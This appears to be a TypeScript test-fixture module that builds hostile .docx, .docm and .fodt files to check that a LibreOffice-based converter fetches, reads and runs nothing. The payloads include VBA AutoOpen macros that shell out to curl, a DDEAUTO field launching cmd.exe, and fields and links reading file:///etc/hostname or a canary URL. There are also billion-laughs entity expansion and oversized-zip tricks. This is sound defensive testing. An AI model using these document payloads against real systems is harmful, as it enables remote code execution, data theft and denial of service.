import { strToU8, zipSync, type Zippable } from 'fflate';

/**
 * Hostile Word documents of the hardening catalogue (group D), built by the tests that use them (the engine's
 * `word-to-pdf.test.ts` and `packages/server/test/hardening`): documents that try to fetch, read or run something
 * while LibreOffice converts them, and containers that ask for too much.
 */

const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NAMESPACES =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  `xmlns:r="${RELS}" ` +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';

export type DocxParts = {
  /** The body's inner XML (paragraphs). */
  body: string;
  /** Relationships of `word/document.xml`, as `<Relationship …/>` elements. */
  documentRels?: string;
  /** More parts, by path, and `<Override …/>` or `<Default …/>` content-type entries for them. */
  parts?: Record<string, string | Uint8Array>;
  contentTypes?: string;
  /** Package relationships besides the main document's. */
  packageRels?: string;
  mainType?: string;
  /** Text before `<w:document>`, such as a DOCTYPE. */
  prolog?: string;
};

/** A minimal WordprocessingML package around `body`. */
export function createDocx({
  body,
  documentRels = '',
  parts = {},
  contentTypes = '',
  packageRels = '',
  mainType = MAIN_TYPE,
  prolog = '',
}: DocxParts): Uint8Array {
  const files: Zippable = {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${mainType}"/>${contentTypes}</Types>`,
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/officeDocument" Target="word/document.xml"/>${packageRels}` +
        '</Relationships>',
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${prolog}<w:document ${NAMESPACES}><w:body>${body}</w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `${documentRels}</Relationships>`,
    ),
  };
  for (const [path, content] of Object.entries(parts)) {
    files[path] = typeof content === 'string' ? strToU8(content) : content;
  }
  return zipSync(files);
}

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A field whose stored result is `stored field result`; LibreOffice must show that, never update it. */
function field(instruction: string): string {
  return (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    `<w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r>` +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>stored field result</w:t></w:r>' +
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
  );
}

function linkedImage(id: string, n: number): string {
  return (
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="${n}" name="p${n}"/>` +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    `<pic:nvPicPr><pic:cNvPr id="${n}" name="p${n}"/><pic:cNvPicPr/></pic:nvPicPr>` +
    `<pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm>' +
    '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  );
}

/**
 * Items 35 and 36: a .docx that tries every way Word has to pull content in: image relationships with
 * `TargetMode="External"` to the canary and to `file:///etc/hostname`, and INCLUDETEXT / INCLUDEPICTURE fields to
 * both. Its own text is `Quire link canary`.
 */
export function createLinkingDocx(canaryUrl: string): Uint8Array {
  const image = `${RELS}/image`;
  return createDocx({
    body:
      paragraph('Quire link canary') +
      linkedImage('rIdHttp', 1) +
      linkedImage('rIdFile', 2) +
      field('INCLUDETEXT "file:///etc/hostname"') +
      field(`INCLUDETEXT "${canaryUrl}/text.txt"`) +
      field(`INCLUDEPICTURE "${canaryUrl}/y.png" \\d`) +
      field('INCLUDEPICTURE "file:///etc/hostname" \\d') +
      `<w:p><w:fldSimple w:instr=' INCLUDETEXT "file:///etc/hostname" '><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>`,
    documentRels:
      `<Relationship Id="rIdHttp" Type="${image}" Target="${canaryUrl}/x.png" TargetMode="External"/>` +
      `<Relationship Id="rIdFile" Type="${image}" Target="file:///etc/hostname" TargetMode="External"/>`,
  });
}

/**
 * Items 36 and 41: a macro-enabled document (.docm) with every hook that runs or fetches something on opening: a
 * VBA project holding `AutoOpen` and `Document_Open` source, a ribbon `onLoad` callback, an attached template and
 * an altChunk HTML page on the canary, DDEAUTO, LINK and macro-button fields, and a LibreLogo / Python script URL as
 * a hyperlink. Its own text is `Quire macro canary`.
 */
export function createActiveDocm(canaryUrl: string): Uint8Array {
  // Not a valid compound file: whatever LibreOffice makes of it, nothing may run or call out.
  const vbaSource =
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "curl ' +
    canaryUrl +
    '/autoopen"\r\nEnd Sub\r\nSub Document_Open()\r\n  Shell "touch /tmp/quire-macro-ran"\r\nEnd Sub\r\n';
  return createDocx({
    mainType: MACRO_MAIN_TYPE,
    body:
      paragraph('Quire macro canary') +
      field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl ${canaryUrl}/dde"`) +
      field(`LINK Excel.Sheet.8 "${canaryUrl}/book.xls" "Sheet1!R1C1" \\a`) +
      field('MACROBUTTON AutoOpen press') +
      `<w:p><w:hyperlink r:id="rIdScript"><w:r><w:t>script link</w:t></w:r></w:hyperlink></w:p>` +
      '<w:altChunk r:id="rIdChunk"/>',
    documentRels:
      `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>` +
      `<Relationship Id="rIdChunk" Type="${RELS}/aFChunk" Target="chunk.html"/>` +
      `<Relationship Id="rIdScript" Type="${RELS}/hyperlink" Target="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share" TargetMode="External"/>` +
      `<Relationship Id="rIdSettings" Type="${RELS}/settings" Target="settings.xml"/>`,
    parts: {
      'word/vbaProject.bin': strToU8(vbaSource),
      'word/chunk.html': `<html><body><p>chunk</p><img src="${canaryUrl}/chunk.png"><iframe src="file:///etc/hostname"></iframe></body></html>`,
      'word/settings.xml':
        '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
        `xmlns:r="${RELS}"><w:attachedTemplate r:id="rIdTemplate"/></w:settings>`,
      'word/_rels/settings.xml.rels':
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rIdTemplate" Type="${RELS}/attachedTemplate" Target="${canaryUrl}/template.dotm" TargetMode="External"/>` +
        '</Relationships>',
      'customUI/customUI14.xml': `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>`,
    },
    contentTypes:
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
      '<Default Extension="html" ContentType="text/html"/>' +
      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
    packageRels: `<Relationship Id="rIdUi" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/>`,
  });
}

/** Item 34: a flat ODF text document (.fodt) linking an image on the canary and a local file. */
export function createFlatOdt(canaryUrl: string): Uint8Array {
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
      'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">' +
      '<office:body><office:text><text:p>flat odt</text:p><text:p><draw:frame svg:width="2cm" svg:height="2cm" ' +
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0">' +
      `<draw:image xlink:href="${canaryUrl}/odt.png" xlink:type="simple"/></draw:frame>` +
      '<draw:frame><draw:image xlink:href="file:///etc/hostname"/></draw:frame></text:p></office:text></office:body></office:document>',
  );
}

/** Item 43: entity expansion ("billion laughs") in the main part. */
export function createEntityExpansionDocx(): Uint8Array {
  const levels = ['<!ENTITY l0 "lol">'];
  for (let level = 1; level <= 9; level += 1) {
    levels.push(`<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`);
  }
  return createDocx({
    prolog: `<!DOCTYPE w:document [${levels.join('')}]>`,
    body: paragraph('&l9;'),
  });
}

/** Item 43: `depth` nested content controls around one paragraph. */
export function createDeepDocx(depth = 100_000): Uint8Array {
  return createDocx({
    body: `${'<w:sdt><w:sdtContent>'.repeat(depth)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(depth)}`,
  });
}

/** Item 43: a valid .docx followed by `count` empty entries. */
export function createManyEntriesDocx(count = 100_000): Uint8Array {
  const extra: Record<string, string> = {};
  for (let index = 0; index < count; index += 1) extra[`x/${index}`] = '';
  return createDocx({ body: paragraph('many entries'), parts: extra });
}

/**
 * Item 43: a valid .docx whose central directory says `word/document.xml` unpacks to `declaredBytes`: by default
 * 4 GiB − 1, the most a zip size field holds without zip64.
 */
export function createHugeDeclaredPartDocx(declaredBytes = 0xffff_ffff): Uint8Array {
  const zip = Buffer.from(createDocx({ body: paragraph('declared huge') }));
  const name = Buffer.from('word/document.xml');
  for (let at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); at >= 0;) {
    const nameLength = zip.readUInt16LE(at + 28);
    if (zip.subarray(at + 46, at + 46 + nameLength).equals(name)) zip.writeUInt32LE(declaredBytes, at + 24);
    const next = at + 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), next);
  }
  return zip;
}

/** Item 44: a spreadsheet package (.xlsx) to be sent under a .docx name. */
export function createXlsx(): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    ),
  });
}

/** Item 44: a flat WordprocessingML (Word 2003 XML) document, to be sent under a .docx name. */
export function createFlatWordXml(): Uint8Array {
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><?mso-application progid="Word.Document"?>' +
      '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml">' +
      '<pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
      '<w:p><w:r><w:t>flat</w:t></w:r></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>',
  );
}
